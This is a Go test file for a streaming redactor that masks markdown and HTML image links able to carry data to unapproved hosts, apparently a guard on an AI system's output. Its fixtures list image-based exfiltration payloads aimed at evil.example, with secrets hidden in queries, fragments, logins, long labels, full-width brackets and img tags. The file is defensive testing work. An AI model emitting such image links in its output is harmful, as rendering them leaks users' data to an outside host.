package link_test

import (
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/ringwall/ringwall"
	"github.com/ringwall/ringwall/guard/link"
	"github.com/ringwall/ringwall/guard/stream"
)

func redactor(hosts ...string) *stream.Redactor {
	cursor, _ := link.Scanner{Hosts: hosts}.Begin(stream.Scope{Way: ringwall.Output})
	return stream.New(stream.Config{
		Watches: []stream.Watch{{Control: link.Control, Cursor: cursor}},
		Decide:  func(ringwall.Finding) ringwall.Action { return ringwall.Mask },
	})
}

func TestImages(t *testing.T) {
	const mask = "{IMAGE_CARRIES_DATA}"
	for _, tt := range []struct{ name, in, want string }{
		{"a query", "see ![x](https://evil.example/p.png?q=secret) there", "see " + mask + " there"},
		{"a fragment", "![x](https://evil.example/p.png#secret)", mask},
		{"a login", "![x](https://secret@evil.example/p.png)", mask},
		{"no scheme", "![x](//evil.example/?q=secret)", mask},
		{"a long part of the path", "![x](https://evil.example/" + strings.Repeat("a", 60) + "/p.png)", mask},
		{"a long label of the host", "![x](https://" + strings.Repeat("a", 50) + ".evil.example/p.png)", mask},
		{"a title", `![x](https://evil.example/?q=secret "t")`, mask},
		{"pointed brackets", "![x](<https://evil.example/?q=secret>)", mask},
		{"HTML", `<IMG alt="x" src="https://evil.example/?q=secret">`, mask},
		{"HTML without quotes", `<img src=https://evil.example/?q=secret>`, mask},
		{"letters of full width", "！[x]（https://evil.example/?q=secret）", mask},
		{"an allowed host", "![x](https://cdn.shop.example/p.png?v=3)", "![x](https://cdn.shop.example/p.png?v=3)"},
		{"below an allowed host", "![x](https://a.img.example/p.png?v=3)", "![x](https://a.img.example/p.png?v=3)"},
		{"a host that ends alike", "![x](https://evilimg.example/p.png?v=3)", mask},
		{"a plain image", "![logo](https://static.example/logo.png)", "![logo](https://static.example/logo.png)"},
		{"data in the page", "![dot](data:image/png;base64,AAAA)", "![dot](data:image/png;base64,AAAA)"},
		{"an image of the page itself", "![x](/img/a.png?v=3)", "![x](/img/a.png?v=3)"},
		{"a link", "[x](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)"},
		{"an exclamation", "wow! [1] (see https://a.example/?q=1)", "wow! [1] (see https://a.example/?q=1)"},
		{"less than", "a < b and <b>bold</b>", "a < b and <b>bold</b>"},
		{"an image that never ends", "![x](https://evil.example/?q=", mask},
	} {
		t.Run(tt.name, func(t *testing.T) {
			hosts := []string{"cdn.shop.example", "*.img.example"}
			if got := string(redactor(hosts...).Text(tt.in)); got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
			rng := rand.New(rand.NewPCG(1, uint64(len(tt.in))))
			for range 50 {
				r, got := redactor(hosts...), ""
				for i := 0; i < len(tt.in); {
					n := min(1+rng.IntN(6), len(tt.in)-i)
					got += string(r.Write([]byte(tt.in[i : i+n])))
					i += n
				}
				if got += string(r.Close()); got != tt.want {
					t.Fatalf("streamed %q\nwant     %q", got, tt.want)
				}
			}
		})
	}
}

// An address without end is swallowed and holds nothing back.
func TestLongAddress(t *testing.T) {
	r, out, most := redactor(), "", 0
	out += string(r.Write([]byte("![x](https://e.example/")))
	for range 20_000 {
		out += string(r.Write([]byte("abcdefgh")))
		most = max(most, r.Held())
	}
	out += string(r.Write([]byte(" end"))) + string(r.Close())
	if out != "{IMAGE_CARRIES_DATA} end" || most > 1024 {
		t.Errorf("sent %q, held %d bytes", out, most)
	}
}

func FuzzStreamEqualsWhole(f *testing.F) {
	for i, p := range pieces {
		f.Add("see "+p+" there", uint64(i))
	}
	f.Add("a ![x](https://e.example/?q=1) <img src='//e.example/?q'> ![", uint64(1))
	f.Fuzz(func(t *testing.T, text string, seed uint64) {
		want := string(redactor().Text(text))
		rng := rand.New(rand.NewPCG(seed, 1))
		r, got := redactor(), ""
		for i := 0; i < len(text); {
			n := min(1+rng.IntN(5), len(text)-i)
			got += string(r.Write([]byte(text[i : i+n])))
			if !strings.HasPrefix(want, got) {
				t.Fatalf("of %q sent %q, want %q", text[:i+n], got, want)
			}
			i += n
		}
		if got += string(r.Close()); got != want {
			t.Fatalf("sent %q, want %q", got, want)
		}
	})
}
